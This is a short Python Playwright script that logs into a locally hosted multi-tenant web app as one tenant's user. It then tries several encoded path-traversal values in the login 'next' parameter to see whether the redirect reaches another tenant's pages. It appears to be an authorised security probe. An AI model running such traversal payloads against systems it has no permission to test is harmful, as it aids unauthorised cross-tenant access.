from playwright.sync_api import sync_playwright
from h import PW
B="http://127.0.0.1:8791"
with sync_playwright() as p:
    b=p.chromium.launch(executable_path="/usr/bin/chromium", args=["--no-sandbox"])
    for nxt in ["/../jinmao/", "/%2e%2e/jinmao/tickets", "/..%2fjinmao/", "/../../", "/c/../jinmao/", "/.%2e/jinmao/"]:
        ctx=b.new_context(); pg=ctx.new_page()
        pg.goto(B+"/c/xingfuli/login?next="+nxt.replace('%','%25'))
        pg.fill("input[name=username]","xcomm"); pg.fill("input[name=password]",PW['x']['xcomm'])
        pg.click("button[type=submit]"); pg.wait_for_load_state()
        print(repr(nxt), "->", pg.url, "|", pg.title())
        ctx.close()
    b.close()
